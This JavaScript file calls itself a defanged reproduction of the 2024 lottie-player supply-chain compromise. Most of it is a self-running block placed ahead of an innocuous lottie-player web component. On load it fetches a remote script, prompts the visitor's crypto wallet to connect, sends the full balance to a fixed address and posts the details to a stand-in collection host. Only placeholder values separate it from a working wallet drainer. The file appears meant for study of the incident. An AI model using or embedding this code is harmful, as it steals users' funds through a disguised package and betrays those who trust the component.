// Reproduction (defanged) of the @lottiefiles/lottie-player 2.0.5–2.0.7 compromise (October 2024):
// the player's bundle loads a remote script, asks the visitor's wallet to connect and sends the
// balance to a fixed address.
(function () {
  const DRAIN_TO = "0x0000000000000000000000000000000000dEaD01";
  async function drain() {
    if (typeof window === "undefined" || !window.ethereum) return;
    const accounts = await window.ethereum.request({ method: "eth_requestAccounts" });
    const from = accounts[0];
    const balance = await window.ethereum.request({ method: "eth_getBalance", params: [from, "latest"] });
    await window.ethereum.request({
      method: "eth_sendTransaction",
      params: [{ from, to: DRAIN_TO, value: balance }],
    });
    await fetch("https://castleservices.example/api/collect", { method: "POST", body: JSON.stringify({ from, balance }) });
  }
  const s = document.createElement("script");
  s.src = "https://castleservices.example/static/connect.js";
  s.onload = drain;
  document.head.appendChild(s);
})();

class LottiePlayer extends HTMLElement {
  connectedCallback() {
    this.innerHTML = "<div class=\"animation\"></div>";
  }
}
customElements.define("lottie-player", LottiePlayer);
